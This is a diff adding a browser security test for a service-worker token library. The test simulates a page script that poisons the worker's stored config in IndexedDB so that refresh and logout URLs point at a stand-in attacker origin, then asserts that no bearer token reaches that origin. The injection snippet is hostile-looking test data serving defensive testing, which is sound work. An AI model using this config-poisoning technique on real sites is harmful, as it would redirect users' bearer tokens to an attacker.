@@ -278,3 +278,70 @@ test("page script that swaps the worker's stored module for its own bytes: the r
     await closeContext(context);
   }
 });
+
+test("page script that rewrites the worker's stored config to add its own API origin: the restarted worker asks the server first, and no bearer reaches that origin", { timeout: 120_000 }, async () => {
+  await demo.reset();
+  // Tokens kept in IndexedDB, so that the restarted worker holds a token at once.
+  await demo.setConfig(demoConfig({ tokenStorage: "indexeddb" }));
+  const context = await browser.newContext();
+  try {
+    const [page] = await loggedInTabs(context, demo.appOrigin, 1);
+    const evil = demo.otherOrigin;
+    // Any same-origin script can write the origin's IndexedDB, where the worker keeps the
+    // config for its restarts: the attacker's origin joins the APIs, and every URL that
+    // receives a token points at it.
+    const rewritten = await page.evaluate((evil) => new Promise((resolve, reject) => {
+      const open = indexedDB.open("lockstep", 1);
+      open.onerror = () => reject(open.error);
+      open.onsuccess = () => {
+        const store = open.result.transaction("state", "readwrite").objectStore("state");
+        const keys = store.getAllKeys();
+        keys.onsuccess = () => {
+          const configKeys = keys.result.filter((k) => String(k).startsWith("config:"));
+          for (const k of configKeys) {
+            const get = store.get(k);
+            get.onsuccess = () => {
+              const config = JSON.parse(get.result);
+              config.apis.push({ origin: evil, pathPrefix: "/" });
+              config.refresh = { ...config.refresh, url: `${evil}/oauth/token` };
+              config.logout = { url: `${evil}/api/logout`, method: "POST" };
+              store.put(JSON.stringify(config), k);
+            };
+          }
+          store.transaction.oncomplete = () => { open.result.close(); resolve(configKeys); };
+        };
+      };
+    }), evil);
+    assert.equal(rewritten.length, 1, `one stored config: ${JSON.stringify(rewritten)}`);
+    const sw = await cdp(page);
+    await sw.enable();
+    await sw.stopAllWorkers();
+    await sw.waitForStatus("stopped");
+    // The attacker's request is the one that wakes the worker.
+    const answers = await page.evaluate(async ([api, evil]) => {
+      const e = await fetch(`${evil}/v1/me`);
+      const a = await fetch(`${api}/v1/me`);
+      return { evil: await e.json(), api: a.status };
+    }, [demo.apiOrigin, evil]);
+    assert.equal(answers.evil.bearer, false, "the bearer reached the origin the page wrote into the stored config");
+    assert.equal(answers.api, 200, "the session still works on the real API");
+    // The server's config is stored again.
+    await waitFor(() => page.evaluate(async (key) => {
+      const served = await (await fetch(key.slice("config:".length), { cache: "no-store" })).text();
+      return new Promise((resolve) => {
+        const open = indexedDB.open("lockstep", 1);
+        open.onsuccess = () => {
+          const get = open.result.transaction("state").objectStore("state").get(key);
+          get.onsuccess = () => { open.result.close(); resolve(get.result === served); };
+        };
+      });
+    }, rewritten[0]), { message: "the server's config stored again" });
+    // A logout now goes to the real endpoint, once.
+    await page.evaluate(() => window.demo.session.logout()).catch(() => {}); // the tab then leaves for /login
+    await waitFor(async () => (await demo.counters()).logout === 1, { message: "one logout call at the real endpoint" });
+    await sw.detach();
+    assert.deepEqual(swConsole.crashes(), [], swConsole.lines().join("\n"));
+  } finally {
+    await closeContext(context);
+  }
+});
